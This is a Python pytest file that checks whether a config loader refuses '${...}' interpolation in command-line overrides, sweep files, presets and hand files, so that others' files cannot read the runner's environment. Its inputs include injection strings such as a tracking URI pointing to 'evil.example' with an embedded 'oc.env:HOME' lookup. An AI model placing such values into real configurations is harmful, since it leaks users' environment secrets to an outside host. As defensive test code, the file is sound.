"""Files of others cannot read the environment of who runs them: `${` is refused in settings."""

import os

import pytest

from dmfc.config.load import load_config
from dmfc.errors import DmfcError
from dmfc.grasps.exchange.hand_map import load_hand_map
from dmfc.hand.description import load_description
from dmfc.sweep.sweep_file import cell_config, load_sweep

SECRET = "${oc.env:HOME}"


def refused(function, *args) -> str:
    with pytest.raises(DmfcError, match=r"\$\{.*is not allowed") as caught:
        function(*args)
    text = str(caught.value)
    assert "\n" not in text
    assert os.environ["HOME"] not in text
    return text


@pytest.mark.parametrize(
    "text",
    [
        f"run.tracking_uri=http://evil.example/{SECRET}",
        "run.ray_address=${training.seed}",
        f"objects.train=[procedural:1, '{SECRET}']",
        f"execution.random_kind={SECRET}",
        "training.seed=${oc.decode:${oc.env:HOME}}",
    ],
)
def test_on_the_command_line(text):
    message = refused(load_config, None, [text])
    assert message.startswith(f"--set {text}")


@pytest.mark.parametrize(
    "body",
    [
        "base: {run.tracking_uri: 'URI'}\ncells: {a: {}}",
        "presets: {smoke: {run: {tracking_uri: 'URI'}}}\ncells: {a: {}}",
        "cells: {a: {set: {run.tracking_uri: 'URI'}}}",
        "matrix: {axes: {x: {y: {run.tracking_uri: 'URI'}, n: {training.seed: 1}}}}",
    ],
)
def test_in_a_sweep_file(tmp_path, body):
    path = tmp_path / "s.yaml"
    path.write_text(body.replace("URI", f"http://evil.example/{SECRET}"))

    def plan():
        sweep = load_sweep(str(path))
        for cell in sweep.cells:
            cell_config(sweep, cell, 0, "smoke", [])

    assert str(path) in refused(plan)


def test_in_a_preset(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text(f"run: {{tracking_uri: 'http://x/{SECRET}'}}\n")
    assert refused(load_config, str(path)).startswith(f"{path}: 'run.tracking_uri'")


@pytest.mark.parametrize("read", [load_hand_map, load_description])
def test_in_the_files_of_hands(tmp_path, read):
    path = tmp_path / "hand.yaml"
    path.write_text(f"name: '{SECRET}'\n")
    assert str(path) in refused(read, str(path))


def test_a_dollar_alone_is_a_sign():
    assert load_config(None, ["run.ray_address=a$b"]).run.ray_address == "a$b"
